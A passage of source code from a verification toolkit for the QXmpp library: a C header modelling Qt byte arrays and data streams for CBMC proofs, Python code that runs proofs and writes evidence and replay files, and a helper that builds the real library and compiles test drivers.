#define QBA_AT(b,i) ((i) < (b)->vlen ? (((b)->patched && (i) == 2) ? (b)->p2 : ((b)->patched && (i) == 3) ? (b)->p3 : (b)->src[(b)->off + (i)]) : (((b)->patched && (i) == 2) ? (b)->p2 : ((b)->patched && (i) == 3) ? (b)->p3 : (char)0))
#define QBA_OWN_INIT(b)
#define QBA_NOT_OWNED(b) 1
#else
/* -DQBA_OWNED: small arrays built byte by byte (HMAC pads, the 16-byte XOR pad of address attributes) additionally carry
   their own storage of QBA_OWNED bytes; an owned array is never patched and never a slice. */
typedef struct QByteArray { int n; const char *src; int off; int vlen; bool patched; char p2, p3; bool owned; char own[QBA_OWNED]; QBA_WLOG_FIELDS } QByteArray;
#define QBA_SLICE_AT(b,i) ((i) < (b)->vlen ? (((b)->patched && (i) == 2) ? (b)->p2 : ((b)->patched && (i) == 3) ? (b)->p3 : (b)->src[(b)->off + (i)]) : (((b)->patched && (i) == 2) ? (b)->p2 : ((b)->patched && (i) == 3) ? (b)->p3 : (char)0))
#define QBA_AT(b,i) ((b)->owned ? (b)->own[i] : QBA_SLICE_AT(b,i))
#define QBA_OWN_INIT(b) ((b)->owned = false)
#define QBA_NOT_OWNED(b) (!(b)->owned)
/* operator[] on a non-const array yields a QByteRef; read through it: the byte, or 0 when i >= size (Qt 5.15 QByteRef::operator char) */
#define QBA_REF_READ(b,i) (((i) >= 0 && (i) < (b)->n) ? QBA_AT(b,i) : (char)0)
static inline void QByteArray_append_char(struct QByteArray *b, char c);
static inline void QByteArray_append(struct QByteArray *b, const struct QByteArray *x);
static inline void QByteArray_concat(struct QByteArray *r, const struct QByteArray *a, const struct QByteArray *b);
#endif
static inline int  QByteArray_size(const QByteArray *b) { return b->n; }
static inline bool QByteArray_isEmpty(const QByteArray *b) { return b->n == 0; }
static inline void QByteArray_ctor(QByteArray *b) { b->n = 0; b->src = 0; b->off = 0; b->vlen = 0; b->patched = false; b->p2 = 0; b->p3 = 0; QBA_OWN_INIT(b); QBA_WLOG_INIT(b); }
static inline void QByteArray_ctor_fill(QByteArray *b, int n, char ch) { MODEL_LIMIT(ch == 0, "QByteArray(n, ch) with ch != 0"); b->n = n < 0 ? 0 : n; b->src = 0; b->off = 0; b->vlen = 0; b->patched = false; b->p2 = 0; b->p3 = 0; QBA_OWN_INIT(b); QBA_WLOG_INIT(b); }
/* resize: only ever followed by readRawData(x.data(), x.size()) in the verified code, which redefines the content;
   bytes beyond the old size are unspecified in Qt, here they read as zero until overwritten (content is never inspected before). */
static inline void QByteArray_resize(QByteArray *b, int n) { b->n = n < 0 ? 0 : n; if (b->vlen > b->n) b->vlen = b->n; }
static inline void QByteArray_copy(QByteArray *r, const QByteArray *b) { *r = *b; }
static inline void QByteArray_left(QByteArray *r, const QByteArray *b, int len) { *r = *b; if (len < 0) len = 0; if (len < r->n) r->n = len; if (r->vlen > r->n) r->vlen = r->n; if (r->n < 4) r->patched = false; }

typedef struct QDataStream { const QByteArray *ba; QByteArray *wba; int pos; } QDataStream;
static inline void QDataStream_ctor_ro(QDataStream *s, const QByteArray *b) { s->ba = b; s->wba = 0; s->pos = 0; }
#define U8AT(s,i) ((quint32)(unsigned char)QBA_AT((s)->ba, (s)->pos + (i)))
static inline void QDataStream_rd_u8(QDataStream *s, quint8 *v)  { if (s->ba->n - s->pos >= 1) { *v = (quint8)U8AT(s,0); s->pos += 1; } else { *v = 0; s->pos = s->ba->n; } }
static inline void QDataStream_rd_u16(QDataStream *s, quint16 *v){ if (s->ba->n - s->pos >= 2) { *v = (quint16)((U8AT(s,0) << 8) | U8AT(s,1)); s->pos += 2; } else { *v = 0; s->pos = s->ba->n; } }
static inline void QDataStream_rd_u32(QDataStream *s, quint32 *v){ if (s->ba->n - s->pos >= 4) { *v = (U8AT(s,0) << 24) | (U8AT(s,1) << 16) | (U8AT(s,2) << 8) | U8AT(s,3); s->pos += 4; } else { *v = 0; s->pos = s->ba->n; } }
static inline int  QDataStream_skipRawData(QDataStream *s, int len) { if (len < 0) return -1; int a = s->ba->n - s->pos; int k = len < a ? len : a; s->pos += k; return k; }
/* readRawData(X.data(), X.size()) : X becomes a slice of the stream's store (short read at the end, rest of X keeps its zero fill) */
static inline int  QDataStream_readInto(QDataStream *s, QByteArray *x, int len) {
  MODEL_LIMIT(len == x->n, "readRawData(x.data(), n) with n != x.size()");
  MODEL_LIMIT(!s->ba->patched, "readRawData from a patched array");
  int a = s->ba->n - s->pos; int k = len < a ? len : a; int v = s->ba->vlen - s->pos; if (v < 0) v = 0; if (k < v) v = k;
  x->src = s->ba->src; x->off = s->ba->off + s->pos; x->vlen = v; x->patched = false; QBA_OWN_INIT(x); s->pos += k; return k; }
/* write stream on a QByteArray: the only write the slice model represents is a 16-bit big-endian store at offset 2 */
static inline void QDataStream_ctor_rw(QDataStream *s, QByteArray *b, int mode) { s->ba = b; s->wba = b; s->pos = 0; }
static inline bool QDataStream_device_seek(QDataStream *s, long pos) { MODEL_LIMIT(s->wba != 0 && pos >= 0 && pos <= s->wba->n, "seek outside the array"); s->pos = (int)pos; return true; }
static inline void QDataStream_wr_i16_patch(QDataStream *s, qint16 v) { MODEL_LIMIT(s->wba != 0 && s->pos == 2 && s->wba->n >= 4, "slice model: 16-bit store at offset 2 only");
  s->wba->patched = true; s->wba->p2 = (char)(unsigned char)(((quint16)v) >> 8); s->wba->p3 = (char)(unsigned char)(((quint16)v) & 0xff); s->pos += 2; }
#ifdef QBA_OWNED
/* ---- owned small arrays (only with -DQBA_OWNED=<capacity>) ---- */
static inline void QByteArray_append_char(QByteArray *b, char c) {
  MODEL_LIMIT(b->owned || b->n == 0, "append to a slice"); MODEL_LIMIT(b->n < QBA_OWNED, "owned array capacity");
  b->owned = true; b->patched = false; b->own[b->n] = c; b->n += 1; }
/* append x (at most 32 bytes: digests, transaction ids) to an owned / empty array; fully unrolled, no loop */
#define QBA_APP1(k) if ((k) < x->n) { MODEL_LIMIT(b->n < QBA_OWNED, "owned array capacity"); b->own[b->n] = QBA_AT(x, (k)); b->n += 1; }
static inline void QByteArray_append(QByteArray *b, const QByteArray *x) {
  MODEL_LIMIT(b->owned || b->n == 0, "append to a slice"); MODEL_LIMIT(x->n <= 32, "appended array longer than 32 bytes");
  b->owned = true; b->patched = false;
  QBA_APP1(0) QBA_APP1(1) QBA_APP1(2) QBA_APP1(3) QBA_APP1(4) QBA_APP1(5) QBA_APP1(6) QBA_APP1(7) QBA_APP1(8) QBA_APP1(9) QBA_APP1(10) QBA_APP1(11) QBA_APP1(12) QBA_APP1(13) QBA_APP1(14) QBA_APP1(15)
  QBA_APP1(16) QBA_APP1(17) QBA_APP1(18) QBA_APP1(19) QBA_APP1(20) QBA_APP1(21) QBA_APP1(22) QBA_APP1(23) QBA_APP1(24) QBA_APP1(25) QBA_APP1(26) QBA_APP1(27) QBA_APP1(28) QBA_APP1(29) QBA_APP1(30) QBA_APP1(31) }
/* a + b where b is all zero (QByteArray(n, 0)): the slice a with a longer zero tail */
static inline void QByteArray_concat(QByteArray *r, const QByteArray *a, const QByteArray *b) {
  MODEL_LIMIT(!b->owned && b->vlen == 0 && !b->patched, "operator+ with a right operand that is not zero-filled");
  MODEL_LIMIT(!a->owned && !a->patched, "operator+ with an owned/patched left operand");
  *r = *a; MODEL_LIMIT(a->n <= QBA_MAX && b->n <= QBA_MAX, "size"); r->n = a->n + b->n; }
/* QDataStream(&x, WriteOnly) << quint32 on an empty local array: four big-endian bytes */
static inline void QDataStream_wr_u32_own(QDataStream *s, quint32 v) { MODEL_LIMIT(s->wba != 0 && s->pos == s->wba->n, "write not at the end");
  QByteArray_append_char(s->wba, (char)(unsigned char)(v >> 24)); QByteArray_append_char(s->wba, (char)(unsigned char)(v >> 16));
  QByteArray_append_char(s->wba, (char)(unsigned char)(v >> 8)); QByteArray_append_char(s->wba, (char)(unsigned char)v); s->pos += 4; }
#endif
#ifdef QBA_WLOG
int g_w;   /* witness position in the write log (nondeterministic, >= 0, fixed before the call) */
/* byte of a write log at the witness position (meaningful when g_w < b->n) */
#define WLOG_W(b) (((b)->patched && g_w == 2) ? (b)->p2 : ((b)->patched && g_w == 3) ? (b)->p3 : (b)->w_val)
static inline void wlog_put(QDataStream *s, unsigned char v) { QByteArray *b = s->wba;
  MODEL_LIMIT(b != 0 && s->pos == b->n && (b->wlog || b->n == 0), "write stream: append at the end of a write log only"); MODEL_LIMIT(b->n < 64 * QBA_MAX, "write log size");
  b->wlog = true; if (g_w == b->n) { b->w_set = true; b->w_val = (char)v; }
#ifdef QBA_OWNED
  /* a log that is still short is also kept byte by byte (small locals such as the 16-byte XOR pad) */
  if (b->n < QBA_OWNED && (b->owned || b->n == 0)) { b->own[b->n] = (char)v; b->owned = true; } else { b->owned = false; }
#endif
  b->n += 1; s->pos += 1; }
static inline void QDataStream_wr_u8(QDataStream *s, quint8 v) { wlog_put(s, v); }
static inline void QDataStream_wr_u16(QDataStream *s, quint16 v) { wlog_put(s, (unsigned char)(v >> 8)); wlog_put(s, (unsigned char)v); }
static inline void QDataStream_wr_u32(QDataStream *s, quint32 v) { wlog_put(s, (unsigned char)(v >> 24)); wlog_put(s, (unsigned char)(v >> 16)); wlog_put(s, (unsigned char)(v >> 8)); wlog_put(s, (unsigned char)v); }
/* writeRawData(x.data(), x.size()): appends all bytes of the (slice) array x */
static inline int QDataStream_writeFrom(QDataStream *s, const QByteArray *x, int len) { QByteArray *b = s->wba;
  MODEL_LIMIT(len == x->n && !x->wlog, "writeRawData(x.data(), n) with n != x.size() or x a write log");
  MODEL_LIMIT(b != 0 && s->pos == b->n && (b->wlog || b->n == 0), "write stream: append at the end of a write log only"); MODEL_LIMIT(b->n < 64 * QBA_MAX && len <= QBA_MAX, "write log size");
  b->wlog = true; if (g_w >= b->n && g_w - b->n < len) { b->w_set = true; b->w_val = QBA_AT(x, g_w - b->n); }
  QBA_OWN_INIT(b); b->n += len; s->pos += len; return len; }
#endif
/* a plain array: its n bytes are bytes [0,n) of src */
#ifdef QBA_WLOG
#define QBA_NOT_WLOG(b) (!(b)->wlog)
#else
#define QBA_NOT_WLOG(b) 1
#endif
/* a slice: its n bytes are bytes [off, off+n) of src (e.g. the transaction id read out of a packet) */
#define QBA_SLICE(b, maxn) (0 <= (b)->n && (b)->n <= (maxn) && (b)->vlen == (b)->n && (b)->off >= 0 && (b)->off <= QBA_MAX && !(b)->patched && QBA_NOT_OWNED(b) && QBA_NOT_WLOG(b))
#define QBA_PLAIN(b, maxn) (0 <= (b)->n && (b)->n <= (maxn) && (b)->vlen == (b)->n && (b)->off == 0 && !(b)->patched && QBA_NOT_OWNED(b) && QBA_NOT_WLOG(b))
#endif
