"""verif check <Cnn>: build the unit from /repo's working tree, discharge its obligations, classify, write evidence."""
import importlib.util, json, os, re, sys, time, traceback, hashlib, shutil
from . import configure, astx
from .cxx2c import Unsupported
from .runner import Proof, run_all, ToolError, CBMC_FLAGS
from .unit import Builder, VERIF

EXIT_PASS, EXIT_VIOLATION, EXIT_UNDECIDED = 0, 1, 2


def load_unit(uid):
    path = os.path.join(VERIF, 'units', uid, 'unit.py')
    if not os.path.exists(path):
        raise SystemExit('no such unit: ' + uid)
    spec = importlib.util.spec_from_file_location('unit_' + uid, path)
    m = importlib.util.module_from_spec(spec)
    sys.path.insert(0, os.path.dirname(path))
    spec.loader.exec_module(m)
    return m


def known_findings():
    """the committed known-findings file (merged from the units' findings.json fragments by bin/mkmanifest); never written at run time"""
    out = {}
    path = os.path.join(VERIF, 'known_findings.json')
    if os.path.exists(path):
        for f in json.load(open(path)).get('findings', []):
            out[f['id']] = f
    import glob
    for frag in glob.glob(os.path.join(VERIF, 'units', '*', 'findings.json')):
        for f in json.load(open(frag)):
            out[f['id']] = f
    return list(out.values())


def label_of(ob, proof):
    """map CBMC's numbered obligation back to the label of the contract clause (DESIGN 5.11)"""
    name = ob['name'] or ''
    labels = getattr(proof, 'labels', None) or {}
    m = re.match(r'(.*)\.postcondition\.(\d+)$', name)
    if m and m.group(1) in labels.get('post', {}):
        L = labels['post'][m.group(1)]
        i = int(m.group(2)) - 1
        if i < len(L):
            return L[i]
    m = re.match(r'(.*)\.loop_invariant_step\.(\d+)$', name)
    if m and m.group(1) in labels.get('inv', {}):
        L = labels['inv'][m.group(1)]
        i = int(m.group(2)) - 1
        if i < len(L):
            return 'loop.' + L[i]
    m = re.match(r'(.*)\.loop_invariant_base\.(\d+)$', name)
    if m:
        return 'loop.invariant_not_established_on_entry.%s' % m.group(2)
    m = re.match(r'(.*)\.assertion\.(\d+)$', name)
    if m and ob.get('description'):
        d = ob['description']
        mm = re.match(r'\[([\w\.\-@#]+)\]', d)
        if mm:
            return mm.group(1)
    m = re.match(r'(.*)\.precondition\.(\d+)$', name)
    if m and not name.startswith('free.'):
        return 'pre@call.%s.%s' % (m.group(1), m.group(2))
    return name


def write_evidence(uid, ev):
    # VERIF_EVIDENCE_DIR: development runs against a scratch copy of the repository (bin/trypatch) must not overwrite the
    # evidence of the registered checks, which has to come from /repo itself
    edir = os.environ.get('VERIF_EVIDENCE_DIR')
    if not edir and os.path.realpath(configure.REPO) != '/repo':
        edir = os.path.join(configure.scratch_root(), 'evidence')      # a run against a scratch copy (VERIF_REPO) never touches /verif/evidence
    edir = edir or os.path.join(VERIF, 'evidence')
    os.makedirs(edir, exist_ok=True)
    path = os.path.join(edir, uid + '.json')
    with open(path, 'w') as f:
        json.dump(ev, f, indent=1)
    return path


def _search(p, work):
    """bounded SEARCH for a postcondition counterexample after the loop contracts of proof p stopped fitting: iterative deepening
    over the unwinding bound of the loops of the code under test (a small bound is often enough and the larger one may exhaust
    memory).  Returns (q, rq, failed postconditions, 'bound:status ...')."""
    import copy
    tried = []
    q = rq = None
    for bound in [int(x) for x in os.environ.get('VERIF_FALLBACK_UNWIND', '2,4').split(',')]:
        q = copy.copy(p)
        q.id = p.id + '.search'
        q.loop_contracts = False
        q.expect_loops = 0
        q.unwind = bound
        q.no_unwinding_assertions = True
        q.timeout = min(p.timeout, 1200)
        rq = q.run(work)
        pf = [o for o in rq.get('obligations', []) if o['status'] != 'SUCCESS' and '.postcondition.' in (o['name'] or '') and not (o['name'] or '').startswith('free.')]
        tried.append('%d:%s' % (bound, rq.get('status')))
        if rq['status'] in ('pass', 'fail') and pf:
            return q, rq, pf, ' '.join(tried)
    return q, rq, [], ' '.join(tried)



def check(uid, tier, seed=0, only=None, keep=False):
    t0 = time.time()
    um = load_unit(uid)
    work = os.path.join(configure.scratch_root(), 'work_' + uid)
    os.makedirs(work, exist_ok=True)
    ev = {'property_id': uid, 'tier': tier, 'seed': seed, 'level': 'proof', 'coverage': {}, 'assumptions': [], 'wall_s': 0.0, 'violations': 0}
    undecided = []
    try:
        unit = um.build(work, tier)
    except (Unsupported, astx.ExtractError, configure.ConfigureError, ToolError) as e:
        print('UNDECIDED property=%s reason=lowering: %s' % (uid, e))
        ev['level'] = 'other'
        ev['coverage'] = {'explanation': 'UNDECIDED (tool limit, not a verdict): extraction/lowering of the current source failed: %s' % e}
        ev['wall_s'] = round(time.time() - t0, 2)
        write_evidence(uid, ev)
        return EXIT_UNDECIDED
    proofs = unit['proofs']
    if only:
        proofs = [p for p in proofs if re.search(only, p.id)]
    if not proofs:
        print('UNDECIDED property=%s no proof selected' % uid)
        return EXIT_UNDECIDED
    # restructured loops: the unit's loop contracts do not fit the lowered function any more.  Proving is off; what remains
    # is a bounded SEARCH for a postcondition violation (loops unwound, no unwinding assertions): a counterexample it finds
    # is a real violation of the contract within the models, a pass decides nothing (reported UNDECIDED).
    from . import unit as unitmod
    fallback = {}
    for p in proofs:
        if p.enforce in unitmod.LOOP_MISMATCH and p.loop_contracts:
            p.loop_contracts = False
            p.expect_loops = 0
            p.kind = 'bounded'
            p.unwind = int(os.environ.get('VERIF_FALLBACK_UNWIND', '2,4').split(',')[-1])
            p.no_unwinding_assertions = True
            p.bound_text = 'loop structure of %s changed (%s): bounded search, loops unwound %d times' % (p.enforce, unitmod.LOOP_MISMATCH[p.enforce], p.unwind)
            fallback[p.id] = p.bound_text
    results = run_all(proofs, work)
    findings = [f for f in known_findings() if f['property'] == uid]
    open_findings = {f['id']: f for f in findings if f.get('status') == 'open'}
    n_ob = n_ok = 0
    bounded = []
    by_backend = {}
    solver_time = {}
    samples = []
    violations = []
    known_lines = []
    notes = []
    for p, r in zip(proofs, results):
        solver_time[p.id] = r.get('solver_time_s')
        fid = getattr(p, 'finding', None)
        if r['status'] == 'tool-error' and p.loop_contracts and 'goto-instrument failed' in (r.get('detail') or '') and p.id not in fallback:
            # the loop-contract instrumentation itself gave up (typically: a newly extracted helper with a loop of its own inside
            # a contracted loop).  Proving is off; search the postconditions for a counterexample instead.
            q, rq, pf, tried = _search(p, work)
            if pf:
                bounded.append({'proof': q.id, 'bound': 'loops unwound %d times (search after the loop-contract instrumentation failed for %s)' % (q.unwind, p.id), 'obligations': len(rq['obligations']), 'failed': len(pf)})
                for o in pf:
                    violations.append((q, rq, o))
                continue
            undecided.append('%s: loop-contract instrumentation failed and the bounded search (loops unwound %d times) found no postcondition violation [search bound:status %s %s]: %s'
                             % (p.id, q.unwind, tried, (rq.get('detail') or '')[-200:], (r.get('detail') or '')[-200:]))
            continue
        if r['status'] in ('tool-error', 'timeout'):
            undecided.append('%s: %s %s' % (p.id, r['status'], (r.get('detail') or '')[:1500]))
            continue
        obs = r['obligations']
        failed = [o for o in obs if o['status'] != 'SUCCESS']
        model_limit = [o for o in failed if 'MODEL-LIMIT' in (o.get('description') or '') or 'undefined function should be unreachable' in (o.get('description') or '')]
        if model_limit:
            undecided.append('%s: model limit reached: %s' % (p.id, model_limit[0]['description']))
            continue
        # pointer validity of the INPUTS is a type invariant the harness has to supply (a back pointer d->q, a member object that
        # always exists).  A change that starts to use such a field of an input the harness left unconstrained produces
        # "dereference failure: pointer NULL/invalid in self->d->q" -- that means "needs a stated input invariant", not "property
        # violated", and every other result of that run is computed from reads through that pointer.  Undecided, unless memory
        # safety is the property itself (C02) or the unit says so.
        ptr_fail = [o for o in failed if re.search(r'\.pointer_dereference\.\d+$', o['name'] or '')
                    and re.search(r'pointer (NULL|invalid|uninitialized) in ', o.get('description') or '')]
        if ptr_fail and not (unit.get('pointer_checks_are_property') or uid in ('C02',)) and not getattr(p, 'finding', None):
            undecided.append('%s: %s (%s): validity of a pointer reached from the inputs is not part of the stated input invariant of this unit; not a verdict'
                             % (p.id, ptr_fail[0]['name'], (ptr_fail[0].get('description') or '')[:120]))
            continue
        # only proof scaffolding failed (loop invariants / variants / loop frames) and no postcondition: the loop contracts may
        # simply not fit a restructured loop any more.  A bounded search for a postcondition counterexample decides what is
        # reported: found -> VIOLATION (named postcondition); not found -> UNDECIDED, not an alarm.
        fn_locals = set()
        helper_locals = {}
        for f_ in unit.get('functions', []):
            if f_.get('cname') == p.enforce:
                fn_locals = set(f_.get('locals', []))
            elif (f_.get('cname') or '').startswith('auto_'):
                # auto-lowered helper (no contract of its own, verified inline): its locals written inside a contracted loop of the caller
                helper_locals[f_['cname']] = set(f_.get('locals', []))

        def scaffold(o):
            if re.search(r'loop_invariant_(base|step)|loop_decreases|loop_assigns|loop_step_unwinding', o['name'] or ''):
                return True
            # a LOCAL of the function under contract missing from a loop's assigns clause (e.g. a temporary hoisted out of
            # the loop by a refactoring) is scaffolding too; a write to a parameter's pointee, a member or ghost state is not
            m = re.match(r'Check that ([A-Za-z_]\w*)(\W.*)? is assignable', o.get('description') or '')
            if not (m and re.search(r'\.assigns\.\d+$', o['name'] or '')):
                return False
            return m.group(1) in fn_locals or m.group(1) in helper_locals.get((o['name'] or '').split('.')[0], ())
        if failed and p.loop_contracts and not getattr(p, 'finding', None) and all(scaffold(o) for o in failed) and p.id not in fallback:
            q, rq, pf, tried = _search(p, work)
            if pf:
                bounded.append({'proof': q.id, 'bound': 'loops unwound %d times (search after a loop-contract failure in %s)' % (q.unwind, p.id), 'obligations': len(rq['obligations']), 'failed': len(pf)})
                for o in pf:
                    violations.append((q, rq, o))
                n_ob += len(obs) - len(failed)
                n_ok += len(obs) - len(failed)
                continue
            undecided.append('%s: loop contract no longer fits (%s fails) and the bounded search (loops unwound %d times) found no postcondition violation [search bound:status %s]: undecided, not an alarm'
                             % (p.id, label_of(failed[0], p), q.unwind, tried))
            continue
        # vacuity: every labelled postcondition must appear among the reported obligations
        want = getattr(p, 'expect_post', 0)
        got = len([o for o in obs if '.postcondition.' in (o['name'] or '') and not o['name'].startswith('free.')]) + \
            len([o for o in obs if re.match(r'\[(post|lemma|pre@)', o.get('description') or '')])
        if want and got < want:
            undecided.append('%s: vacuity guard: %d postcondition obligations expected, %d generated' % (p.id, want, got))
            continue
        if p.id in fallback:
            post_fail = [o for o in failed if '.postcondition.' in (o['name'] or '') and not (o['name'] or '').startswith('free.')]
            if not post_fail:
                undecided.append('%s: %s; no postcondition violation found within the bound (not a proof)' % (p.id, fallback[p.id]))
                continue
            failed = post_fail
            bounded.append({'proof': p.id, 'bound': p.bound_text, 'obligations': len(obs), 'failed': len(failed)})
            for o in failed:
                violations.append((p, r, o))
            continue
        if fid:
            # run restricted to the discriminator of a recorded finding: its failure is the finding itself
            if failed:
                if fid in open_findings:
                    known_lines.append('KNOWN-FINDING: property=%s %s [%s fails: %s]' % (uid, open_findings[fid]['what'], p.id, label_of(failed[0], p)))
                    continue
                # not listed (or listed as fixed): a real alarm
            else:
                if fid in open_findings:
                    notes.append('finding %s is listed as open but its obligations are discharged now' % fid)
        if p.kind == 'bounded':
            bounded.append({'proof': p.id, 'bound': p.bound_text, 'obligations': len(obs), 'failed': len(failed)})
        else:
            n_ob += len(obs)
            n_ok += len(obs) - len(failed)
            by_backend[r['backend']] = by_backend.get(r['backend'], 0) + len(obs) - len(failed)
        for o in obs:
            if ('.postcondition.' in (o['name'] or '') or 'loop_invariant_step' in (o['name'] or '') or re.match(r'\[(post|lemma)', o.get('description') or '')) and not (o['name'] or '').startswith('free.'):
                if len(samples) < 12:
                    samples.append({'proof': p.id, 'obligation': o['name'], 'label': label_of(o, p), 'status': o['status'], 'generated_c_line': o.get('line')})
        for o in failed:
            violations.append((p, r, o))
    exit_code = EXIT_PASS
    # ------------------------------------------------------------------ violations -> replay files
    reported = set()
    for p, r, o in violations:
        lab = label_of(o, p)
        key = (p.id, lab)
        if key in reported:
            continue
        reported.add(key)
        rp = make_replay(uid, um, unit, p, r, o, lab, work)
        suffix = '' if rp.get('reproduced') else ' no-failing-input-found'
        print('VIOLATION property=%s replay=%s%s' % (uid, rp['path'], suffix))
        print('  obligation %s/%s/%s  (%s)' % (uid, p.enforce or p.entry, lab, (o.get('description') or '')[:160]))
        exit_code = EXIT_VIOLATION
        if len(reported) >= 8:
            break
    for l in known_lines:
        print(l)
    for n_ in notes:
        print('NOTE: ' + n_)
    if undecided:
        for u in undecided:
            print('UNDECIDED property=%s %s' % (uid, u))
        if exit_code == EXIT_PASS:
            exit_code = EXIT_UNDECIDED
    # ------------------------------------------------------------------ evidence
    trusted = list(unit.get('trusted_base', [])) + [
        'clang 14 as parser/type checker of the real TU; Qt 5.15.8 / libstdc++ 12 headers',
        'cxx2c lowering rules (vlib/cxx2c.py + unit profile); must-fire accounting and drop report below',
        'CBMC 6.11.0 dfcc contract instrumentation and SAT back end; machine integers are the target\'s two\'s complement types',
        'configuration verified: Qt 5 branches, BUILD_OMEMO=OFF, WITH_QCA=OFF, -DNDEBUG']
    cov = {
        'obligations': n_ob, 'discharged': n_ok,
        'checker_cmd': '; '.join(sorted(set(p.checker_cmd() for p in proofs)))[:4000],
        'trusted_base': trusted,
        'functions_under_contract': unit.get('functions', []),
        'proofs': [{'id': p.id, 'kind': p.kind, 'enforced_contract': p.enforce, 'callees_replaced_by_contract': p.replace, 'status': r['status'],
                    'obligations': len(r['obligations']), 'failed': len([o for o in r['obligations'] if o['status'] != 'SUCCESS']),
                    'solver_time_s': r.get('solver_time_s'), 'backend': r['backend'], 'note': p.note,
                    'restricted_to_known_finding': getattr(p, 'finding', None), 'vacuity_probe': r.get('vacuity_probe')} for p, r in zip(proofs, results)],
        'vacuity_probes': {'placed': len([r for r in results if r.get('vacuity_probe') in ('placed', 'reachable', 'lost')]),
                           'reachable': len([r for r in results if r.get('vacuity_probe') == 'reachable']),
                           'meaning': 'an assertion that must fail sits at the end of every harness; a run in which it is reported SUCCESS (end unreachable: contradictory requires or assumptions) is a tool error'},
        'by_backend': by_backend, 'solver_time_s': solver_time,
        'bounded_checks': bounded,
        'dropped_by_lowering': unit.get('dropped', []),
        'rules_fired': unit.get('fired', {}),
        'ghost_hooks': unit.get('hooks', []),
        'assumed_contracts': unit.get('assumed', []),
        'assume_statements_in_unit': unit.get('assumes', []),
        'not_covered': unit.get('not_covered', []),
        'known_findings': [l for l in known_lines],
        'undecided': undecided,
        'samples': samples,
        'explanation': unit.get('explanation', ''),
    }
    ev['coverage'] = cov
    ev['assumptions'] = unit.get('assumed', []) + ['every item of coverage.trusted_base']
    ev['violations'] = len(reported)
    ev['wall_s'] = round(time.time() - t0, 2)
    if n_ob == 0 or undecided:
        # nothing may be claimed as proof when a part is undecided
        if n_ob == 0:
            ev['level'] = 'other'
            cov['explanation'] = 'UNDECIDED: ' + '; '.join(undecided)[:2000]
    write_evidence(uid, ev)
    print('%s tier=%s: %d/%d obligations discharged in %d proofs, %d bounded stand-ins, %d known findings, %d violations, %d undecided, %.0fs'
          % (uid, tier, n_ok, n_ob, len(proofs), len(bounded), len(known_lines), len(reported), len(undecided), time.time() - t0))
    return exit_code


def make_replay(uid, um, unit, p, r, o, lab, work):
    rbase = os.environ.get('VERIF_REPLAY_DIR')
    if not rbase and os.path.realpath(configure.REPO) != '/repo':
        rbase = os.path.join(os.environ.get('VERIF_SCRATCH_BASE', '/tmp'), 'replays-scratch')
    rdir = os.path.join(rbase or os.path.join(VERIF, 'replays'), uid)
    os.makedirs(rdir, exist_ok=True)
    h = hashlib.sha256(('%s/%s/%s' % (uid, p.id, lab)).encode()).hexdigest()[:10]
    path = os.path.join(rdir, '%s-%s.json' % (re.sub(r'\W+', '_', lab)[:60], h))
    fn = next((f for f in unit.get('functions', []) if f['cname'] == (p.enforce or '')), None)
    rp = {'property': uid, 'obligation': '%s/%s/%s' % (uid, p.enforce or p.entry, lab), 'cbmc_property': o['name'], 'description': o.get('description'),
          'proof': p.id, 'function': fn, 'checker_cmd': p.checker_cmd(), 'verifier_output': {'status': o['status'], 'trace_tail': (o.get('trace') or [])[-60:]},
          'inputs': None, 'reproduced': False, 'path': path}
    # counterexample trace of this one obligation (requested separately: the JSON UI would build one per failure)
    try:
        from .runner import get_trace
        tr = get_trace(p, o['name'], timeout=int(os.environ.get('VERIF_TRACE_TIMEOUT', '300')))
        if tr:
            o['trace'] = tr
            rp['verifier_output']['trace_tail'] = tr[-60:]
    except Exception as e:
        rp['trace_error'] = '%s: %s' % (type(e).__name__, e)
    # the unit may know how to turn this failure into a concrete input and replay it on the real library
    try:
        if hasattr(um, 'find_input'):
            res = um.find_input(unit, p, o, lab, work)
            if res:
                rp.update(res)
    except Exception as e:  # the search is a help for the report only
        rp['input_search_error'] = '%s: %s' % (type(e).__name__, e)
    with open(path, 'w') as f:
        json.dump(rp, f, indent=1)
    return rp


def replay(path):
    rp = json.load(open(path))
    um = load_unit(rp['property'])
    if not rp.get('inputs') or not hasattr(um, 'native_replay'):
        print('NOT-REPRODUCED: replay file carries no concrete input (obligation %s); verifier output is in the file' % rp['obligation'])
        return 1
    ok, out = um.native_replay(rp)
    print(out)
    print('REPRODUCED' if ok else 'NOT-REPRODUCED')
    return 0 if ok else 1
