"""Native replay support: build the REAL library from the working tree (static, scratch dir outside /repo and /verif),
compile a small driver against it (private headers available), run it, clean up."""
import os, subprocess, shutil, tempfile
from . import configure

_lib = None


class NativeError(Exception):
    pass


def build_lib():
    """static libQXmppQt5.a of configure.REPO's current working tree; returns (build dir, lib path)"""
    global _lib
    if _lib:
        return _lib
    bdir = os.path.join(configure.scratch_root(), 'native')
    cmd = ['cmake', '-S', configure.REPO, '-B', bdir, '-G', 'Ninja', '-DBUILD_SHARED=OFF', '-DBUILD_TESTS=OFF', '-DBUILD_EXAMPLES=OFF',
           '-DBUILD_INTERNAL_TESTS=OFF', '-DCMAKE_BUILD_TYPE=Release']
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if p.returncode != 0:
        raise NativeError('configure failed: ' + p.stdout[-2000:])
    p = subprocess.run(['cmake', '--build', bdir, '-j', str(os.cpu_count() or 8)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    if p.returncode != 0:
        raise NativeError('build of the working tree failed: ' + p.stdout[-3000:])
    lib = None
    for root, _, files in os.walk(bdir):
        for f in files:
            if f.startswith('libQXmpp') and f.endswith('.a'):
                lib = os.path.join(root, f)
    if not lib:
        raise NativeError('static library not found after build')
    _lib = (bdir, lib)
    return _lib


def pkg(flag):
    return subprocess.run(['pkg-config', flag, 'Qt5Core', 'Qt5Xml', 'Qt5Network'], stdout=subprocess.PIPE, text=True).stdout.split()


def run_driver(cpp_path, args=(), stdin=None, timeout=120, extra_cxx=()):
    """compile `cpp_path` against the real library (private headers on the include path) and run it"""
    bdir, lib = build_lib()
    exe = os.path.join(configure.scratch_root(), 'drv_' + os.path.basename(cpp_path).replace('.', '_'))
    R = configure.REPO
    cmd = ['g++', '-std=c++20', '-O1', '-fPIC', '-DQXMPP_BUILD_STATIC', '-DQT_NO_KEYWORDS', '-I' + R + '/src/base', '-I' + R + '/src/client', '-I' + R + '/src/server',
           '-I' + os.path.join(bdir, 'src')] + pkg('--cflags') + list(extra_cxx) + [cpp_path, lib] + pkg('--libs') + ['-o', exe]
